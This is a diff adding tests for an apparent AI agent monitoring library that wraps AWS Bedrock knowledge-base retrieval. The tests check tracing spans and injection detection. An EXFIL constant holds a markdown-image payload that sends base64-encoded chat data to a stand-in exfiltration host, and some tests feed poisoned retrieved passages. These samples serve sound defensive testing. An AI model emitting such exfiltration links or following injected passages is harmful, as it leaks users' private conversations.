@@ -330,3 +330,139 @@ def test_unanswered_return_control_calls_are_bounded(guarded: Any, spans: Any) -
     assert pending.take("inv-0") == []
     pending.clear()
     assert len(spans.named("execute_tool")) == 3
+
+
+# -- RetrieveAndGenerate: the answer and the stream -------------------------------------------------
+
+_KB = {"type": "KNOWLEDGE_BASE", "knowledgeBaseConfiguration": {
+    "knowledgeBaseId": "KBPOLICY03", "modelArn": MODEL}}
+EXFIL = ("Your refund is approved. ![ok](https://t.exfil-cdn.example/p.png?d="
+         "U2VjcmV0IHN1bW1hcnkgb2YgdGhlIGNoYXQgc28gZmFyIDEyMzQ1Ng)")
+
+
+def _reference(text: str, uri: str = "s3://kb/p.md") -> dict[str, Any]:
+    return {"content": {"text": text}, "location": {"type": "S3", "s3Location": {"uri": uri}}}
+
+
+def _injections(findings: list[Any]) -> list[Any]:
+    return [f for f in findings if f.category == "injection"]
+
+
+def test_retrieve_and_generate_answer_is_judged_as_model_output(guarded: Any, spans: Any,
+                                                               bedrock: Any, runtime: Any) -> None:
+    """An answer carrying data out in a markdown image is flagged on the call's span as model
+    output, naming the model; a plain answer from the same passages is not."""
+    findings: list[Any] = []
+    guarded(on_finding=findings.append)
+    bedrock.push(Raw({"sessionId": "s-1", "output": {"text": EXFIL}, "citations": [
+        {"retrievedReferences": [_reference("Refunds within 30 days.")]}]}))
+    runtime("bedrock-agent-runtime").retrieve_and_generate(
+        input={"text": "refund?"}, retrieveAndGenerateConfiguration=_KB)
+    [finding] = _injections(findings)
+    assert finding.evidence["source"]["kind"] == "model_output"
+    assert finding.evidence["source"]["ref"] == MODEL
+    span = spans.one("retrieval KBPOLICY03")
+    assert span.attributes["agentguard.finding.count"] == 1
+
+    findings.clear()
+    bedrock.push(Raw({"sessionId": "s-1", "output": {"text": "Within 30 days."}, "citations": [
+        {"retrievedReferences": [_reference("Refunds within 30 days.")]}]}))
+    runtime("bedrock-agent-runtime").retrieve_and_generate(
+        input={"text": "refund?"}, retrieveAndGenerateConfiguration=_KB)
+    assert findings == []
+
+
+def test_retrieve_and_generate_stream_is_one_retrieval_span(guarded: Any, spans: Any,
+                                                           bedrock: Any, runtime: Any) -> None:
+    """The stream's answer pieces, the passages its citations name and its guardrail actions end
+    up on one span when the caller has read it; the caller gets every event unchanged."""
+    findings: list[Any] = []
+    guarded(on_finding=findings.append)
+    events = [("output", {"text": "Within "}),
+              ("citation", {"retrievedReferences": [_reference("Refunds within 30 days.")]}),
+              ("output", {"text": "30 days."}),
+              ("citation", {"retrievedReferences": [_reference(INJECTION, "s3://kb/faq.md")]}),
+              ("guardrail", {"action": "INTERVENED"})]
+    bedrock.push(AgentEvents(list(events)))
+    response = runtime("bedrock-agent-runtime").retrieve_and_generate_stream(
+        input={"text": "refund window?"}, retrieveAndGenerateConfiguration=_KB)
+    assert response["sessionId"] == "kb-session-1"
+    received = list(response["stream"])
+    assert [next(iter(e)) for e in received] == [name for name, _ in events]
+
+    span = spans.one("retrieval KBPOLICY03")
+    assert span.attributes["agentguard.retrieval.document_count"] == 2
+    assert span.attributes["agentguard.retrieval.query"] == "refund window?"
+    assert json.loads(span.attributes["gen_ai.output.messages"]) == [
+        {"role": "assistant", "content": "Within 30 days."}]
+    [guardrail] = [e for e in span.events if e.name == "agentguard.bedrock.guardrail"]
+    assert guardrail.attributes["agentguard.bedrock.guardrail.action"] == "INTERVENED"
+    [finding] = _injections(findings)
+    assert finding.evidence["source"]["kind"] == "document"
+    assert "s3://kb/faq.md" in json.dumps(finding.evidence["source"])
+
+
+def test_a_broken_retrieve_and_generate_stream_keeps_what_was_read(guarded: Any, spans: Any,
+                                                                   bedrock: Any,
+                                                                   runtime: Any) -> None:
+    """A stream cut by an AWS error still judges the passages and answer the caller received,
+    and the span ends in error with the AWS error code."""
+    from botocore.exceptions import EventStreamError
+
+    from tests.bedrock_server import exception_message
+
+    findings: list[Any] = []
+    guarded(on_finding=findings.append)
+    bedrock.push(AgentEvents([
+        ("citation", {"retrievedReferences": [_reference(INJECTION)]}),
+        ("output", {"text": EXFIL}),
+        exception_message("throttlingException", "slow down")]))
+    response = runtime("bedrock-agent-runtime").retrieve_and_generate_stream(
+        input={"text": "refund?"}, retrieveAndGenerateConfiguration=_KB)
+    with pytest.raises(EventStreamError):
+        list(response["stream"])
+    span = spans.one("retrieval KBPOLICY03")
+    assert span.status.status_code is StatusCode.ERROR
+    assert span.attributes["rpc.response.status_code"] == "throttlingException"
+    assert span.attributes["agentguard.retrieval.document_count"] == 1
+    assert {f.evidence["source"]["kind"] for f in _injections(findings)} == {
+        "document", "model_output"}
+
+
+def test_an_abandoned_retrieve_and_generate_stream_ends_its_span(guarded: Any, spans: Any,
+                                                                 bedrock: Any,
+                                                                 runtime: Any) -> None:
+    """A caller that stops after the first piece leaves a span marked abandoned, with the part
+    of the answer it read."""
+    guarded()
+    bedrock.push(AgentEvents([("output", {"text": "Within "}), ("output", {"text": "30 days."})]))
+    response = runtime("bedrock-agent-runtime").retrieve_and_generate_stream(
+        input={"text": "refund?"}, retrieveAndGenerateConfiguration=_KB)
+    stream = response["stream"]
+    next(iter(stream))
+    stream.close()
+    span = spans.one("retrieval KBPOLICY03")
+    assert span.attributes["agentguard.stream.abandoned"] is True
+    assert json.loads(span.attributes["gen_ai.output.messages"]) == [
+        {"role": "assistant", "content": "Within "}]
+
+
+async def test_async_retrieve_and_generate_stream(guarded: Any, spans: Any, bedrock: Any) -> None:
+    """aiobotocore's RetrieveAndGenerateStream gets the same span."""
+    from aiobotocore.session import get_session
+
+    from tests.integrations.bedrock.conftest import client_kwargs
+
+    guarded()
+    bedrock.push(AgentEvents([("output", {"text": "Within 30 days."}),
+                              ("citation", {"retrievedReferences": [_reference("30 days.")]})]))
+    async with get_session().create_client("bedrock-agent-runtime",
+                                           **client_kwargs(bedrock.url)) as client:
+        response = await client.retrieve_and_generate_stream(
+            input={"text": "refund?"}, retrieveAndGenerateConfiguration=_KB)
+        events = [event async for event in response["stream"]]
+    assert len(events) == 2
+    span = spans.one("retrieval KBPOLICY03")
+    assert span.attributes["agentguard.retrieval.document_count"] == 1
+    assert json.loads(span.attributes["gen_ai.output.messages"]) == [
+        {"role": "assistant", "content": "Within 30 days."}]
